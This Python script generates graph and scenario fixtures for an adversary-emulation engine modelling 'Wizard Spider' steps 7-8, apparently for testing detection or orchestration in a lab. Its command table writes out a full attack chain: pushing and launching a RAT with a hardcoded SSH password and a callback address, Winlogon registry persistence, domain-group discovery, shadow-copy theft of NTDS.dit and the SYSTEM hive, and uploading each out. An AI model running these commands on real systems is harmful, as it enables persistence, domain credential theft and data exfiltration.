"""Regenerate the Wizard Spider steps 7-8 graph and scenario fixtures.

Each table item is an activation node carrying the item's watchpoint,
followed by a guarded effect node holding the item's command (items 9, 12
and 15 have no command).  Watchpoint expressions are kept verbatim as
opaque atoms.
"""
import json
import sys
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "src" / "elgraph" / "data"

RAT = '_EL_RAT_CONNECTED(name.equals("jelly"))'
VSS = ('_EL_EXEC_RESP(stderr.contains("vssadmin 1.1 - Volume Shadow Copy") && '
       'stderr.contains("Successfully created shadow copy for") && '
       'command.contains("vssadmin.exe create shadow"))')

# (item, node, watchpoint or None for TOP, effect or "")
ITEMS = [
    (1, "T1105_IngressELRat", None,
     r'''exec "sshpass -p q27VYN8xflPcYumbLMit scp -oStrictHostkeyChecking=no ./el/jelly.exe vfleming@192.168.1.4:'C:\\\\Users\\\\vfleming\\\\jelly.exe'"'''),
    (2, "T1021_004_ExecuteEL",
     '_EL_EXEC_RESP(command.contains("sshpass -p q27VYN8xflPcYumbLMit scp") && command.contains("jelly"))',
     r'''exec "sshpass -p q27VYN8xflPcYumbLMit ssh vfleming@192.168.1.4 'C:\\\\Users\\\\vfleming\\\\jelly.exe http://192.168.0.4 9001 5'"'''),
    (3, "T1105_IngressShellcode", RAT, 'remote_download jelly "uxtheme.exe"'),
    (4, "T1547_004_AutostartWinlogonPersistence", '_EL_EXEC_DOWNLOAD(file_path.contains("uxtheme"))',
     r'''remote_exec jelly "Set-ItemProperty 'HKCU:\\\\Software\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Winlogon\\\\' 'Userinit' 'Userinit.exe, C:\\\\Users\\\\vfleming\\\\uxtheme.exe' -Force"'''),
    (5, "T1069_002_DiscoverDomainGroups", RAT, '''remote_exec jelly "adfind -f '(objectcategory=group)'"'''),
    (6, "T1006_CreateShadowCopy", RAT, 'remote_exec jelly "cmd /c vssadmin.exe create shadow /for=C:"'),
    (7, "T1003_003_NTDSCredential-Dump", VSS,
     r'remote_exec jelly "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit ntds_exfil /y"'),
    (8, "exfil_ndts",
     '_EL_EXEC_RESP(command.contains("copy") && command.contains("ntds_exfil") && stderr.contains("copied."))',
     'remote_upload jelly "ntds_exfil"'),
    (9, "ntds_success", '_EL_EXEC_UPLOAD(file_path.contains("ntds_exfil"))', ""),
    (10, "T1003_002_SAMCredential-Dump", VSS, r'remote_exec jelly "cmd /c reg SAVE HKLM\\SYSTEM system_sam_copy /y"'),
    (11, "exfill_sam",
     '_EL_EXEC_RESP(command.contains("reg SAVE") && command.contains("sam_copy") && '
     'stdout.contains("The operation completed successfully."))',
     'remote_upload jelly "sam_copy"'),
    (12, "sam_success", '_EL_EXEC_UPLOAD(file_path.contains("sam_copy"))', ""),
    (13, "T1552_002_UnsecuredCredentialsInRegistry", VSS,
     r'remote_exec jelly "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM system_exfil /y"'),
    (14, "exfil_hive",
     '_EL_EXEC_RESP(command.contains("copy") && command.contains("system_exfil") && stderr.contains("copied."))',
     'remote_upload jelly "system_exfil"'),
    (15, "hive_success", '_EL_EXEC_UPLOAD(file_path.contains("system_exfil"))', ""),
]

# item -> following items
FLOW = {1: [2], 2: [3, 5, 6], 3: [4], 6: [7, 10, 13], 7: [8], 8: [9], 10: [11], 11: [12], 13: [14], 14: [15]}
JOIN = [4, 5, 9, 12, 15]
GOAL = "STEP7_8_DONE"
JOIN_NODE = "steps_7_8_complete"

VSS_STDERR = ("vssadmin 1.1 - Volume Shadow Copy Service administrative command-line tool\r\n"
              "(C) Copyright 2001-2013 Microsoft Corp.\r\n\r\n"
              "Successfully created shadow copy for 'C:\\'\r\n"
              "    Shadow Copy ID: {1e2dc284-740d-46c8-9427-299e0c9c9ab3}\r\n"
              "    Shadow Copy Volume Name: \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\r\n")


def build():
    by_item = {i: (name, wp, eff) for i, name, wp, eff in ITEMS}
    nodes, edges = [], []
    for i, name, wp, eff in ITEMS:
        d = {"id": name, "type": "activation", "watchpoint": wp}
        if i == 1:
            d["entry"] = True
        nodes.append(d)
        if eff:
            nodes.append({"id": f"{name}.effect", "type": "guarded_effect", "watchpoint": None, "effect": eff})
            edges.append([name, f"{name}.effect"])
        for j in FLOW.get(i, []):
            edges.append([name, by_item[j][0]])
    nodes.append({"id": JOIN_NODE, "type": "logic", "logic_expr": ["and", *(by_item[j][0] for j in JOIN)]})
    for j in JOIN:
        edges.append([by_item[j][0], JOIN_NODE])
    nodes.append({"id": GOAL, "type": "activation", "watchpoint": None, "goal": True})
    edges.append([JOIN_NODE, GOAL])
    graph = {"nodes": nodes, "edges": edges}

    def react(pattern, delay_s, item, payload):
        return {"pattern": pattern, "delay_ms": delay_s * 1000, "atom": by_item[item][1], "payload": payload}

    def resp(cmd, stdout="", stderr=""):
        return f"command={cmd};stdout={stdout};stderr={stderr}"

    scenario = {
        "scheduled": [],
        "reactions": [
            react("./el/jelly.exe vfleming@192.168.1.4", 45, 2,
                  resp("sshpass -p q27VYN8xflPcYumbLMit scp -oStrictHostkeyChecking=no ./el/jelly.exe")),
            react("jelly.exe http://192.168.0.4 9001 5", 30, 3, "name=jelly"),
            react('remote_download jelly "uxtheme.exe"', 20, 4, "file_path=C:\\Users\\vfleming\\uxtheme.exe"),
            react("vssadmin.exe create shadow /for=C:", 75, 7,
                  resp("cmd /c vssadmin.exe create shadow /for=C:", "", VSS_STDERR)),
            react("NTDS.dit ntds_exfil /y", 120, 8,
                  resp("cmd /c copy NTDS.dit ntds_exfil /y", "", "        1 file(s) copied.")),
            react('remote_upload jelly "ntds_exfil"', 90, 9, "file_path=ntds_exfil"),
            react("reg SAVE HKLM", 40, 11,
                  resp("cmd /c reg SAVE HKLM\\SYSTEM system_sam_copy /y", "The operation completed successfully.")),
            react('remote_upload jelly "sam_copy"', 30, 12, "file_path=sam_copy"),
            react("SYSTEM system_exfil /y", 50, 14,
                  resp("cmd /c copy SYSTEM system_exfil /y", "", "        1 file(s) copied.")),
            react('remote_upload jelly "system_exfil"', 70, 15, "file_path=system_exfil"),
        ],
    }
    return graph, scenario


def main():
    graph, scenario = build()
    OUT.mkdir(parents=True, exist_ok=True)
    for name, doc in (("ws78.el.json", graph), ("ws78.scn.json", scenario)):
        (OUT / name).write_text(json.dumps(doc, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
        print(OUT / name, file=sys.stderr)


if __name__ == "__main__":
    main()
